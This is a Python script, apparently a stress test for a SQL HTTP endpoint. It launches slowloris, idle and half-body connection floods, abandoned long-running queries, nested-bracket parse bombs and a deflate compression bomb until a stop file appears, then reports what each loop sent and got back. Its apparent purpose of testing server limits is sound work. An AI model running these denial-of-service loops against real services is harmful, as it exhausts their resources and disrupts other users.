"""Load on a SQL endpoint (issue 44), standard library only so that it runs as another user with
the system's python3: slowloris heads, idle connections, bodies never sent, 20-second queries
whose clients hang up, parse bombs and compression bombs, each in a loop of its own.

``python3 attacker.py URL STOP_FILE``: prints ``ready`` once every loop runs, runs until
STOP_FILE exists, then prints one JSON line of counts (what each loop sent and what it got back)."""

from __future__ import annotations

import collections
import json
import os
import socket
import sys
import threading
import time
import urllib.error
import urllib.parse
import urllib.request
import zlib

URL, STOP = sys.argv[1], sys.argv[2]
HOST, PORT = urllib.parse.urlsplit(URL).hostname or "127.0.0.1", urllib.parse.urlsplit(URL).port or 8123
counts: collections.Counter[str] = collections.Counter()
lock = threading.Lock()


def count(key: str) -> None:
    with lock:
        counts[key] += 1


def stopped() -> bool:
    return os.path.exists(STOP)


def post(body: bytes, headers: dict[str, str] | None = None, query: str = "", timeout: float = 10.0) -> str:
    """The status, or "dropped" (timed out or closed; then a pause, as a client that retries)."""
    req = urllib.request.Request(URL + query, data=body, headers=headers or {}, method="POST")
    try:
        with urllib.request.urlopen(req, timeout=timeout) as r:
            r.read()
            return str(r.status)
    except urllib.error.HTTPError as e:
        return str(e.code)
    except (TimeoutError, OSError):
        time.sleep(0.2)
        return "dropped"


def held_sockets(kind: str, first: bytes, n: int) -> None:
    """Keep ``n`` connections open that send ``first`` and then a byte now and then (or nothing)."""
    socks: list[socket.socket] = []
    while not stopped():
        while len(socks) < n:
            try:
                s = socket.create_connection((HOST, PORT), timeout=2)
                if first:
                    s.sendall(first)
                socks.append(s)
                count(f"{kind}_opened")
            except OSError:
                count(f"{kind}_refused")
                break
        alive = []
        for s in socks:
            try:
                if kind == "slowloris":
                    s.sendall(b"X")
                alive.append(s)
            except OSError:
                count(f"{kind}_closed_by_server")
                s.close()
        socks = alive
        time.sleep(0.5)
    for s in socks:
        s.close()


def sleepy() -> None:
    """Queries of 20 s whose clients give up after 1 s."""
    while not stopped():
        count("sleepy_" + post(b"SELECT sum(sleepEachRow(1)) FROM numbers(20)", query="?max_block_size=1", timeout=1.0))


def parse_bombs() -> None:
    while not stopped():
        count("parse_bomb_" + post(b"SELECT " + b"([" * 50_000))
        count("parse_bomb_" + post(b"SELECT " + b"([" * 64 + b"1," * 16_000))  # the worst within the limits


def deflate_bomb() -> bytes:
    """64 MiB of zeros in 64 KiB: past both the inflate ratio and the body limit (32 MiB)."""
    z = zlib.compressobj(9)
    return b"".join(z.compress(bytes(1 << 20)) for _ in range(64)) + z.flush()


BOMB = deflate_bomb()  # built before the attack begins (at nice 10 on a busy machine it takes a while)


def compression_bombs() -> None:
    while not stopped():
        count("deflate_bomb_" + post(BOMB, {"Content-Encoding": "deflate"}))


loops = [threading.Thread(target=held_sockets, args=("slowloris", b"POST / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-A: ", 150)),
         threading.Thread(target=held_sockets, args=("idle", b"", 100)),
         threading.Thread(target=held_sockets, args=("half_body", b"POST / HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                                                      b"Content-Length: 999999\r\n\r\nSELECT ", 100)),
         *[threading.Thread(target=sleepy) for _ in range(6)], threading.Thread(target=parse_bombs),
         *[threading.Thread(target=compression_bombs) for _ in range(2)]]
for t in loops:
    t.daemon = True
    t.start()
print("ready", flush=True)  # every loop runs: the caller times the attack from here
while not stopped():
    time.sleep(0.2)
for t in loops:
    t.join(timeout=15)
print(json.dumps(dict(counts)), flush=True)
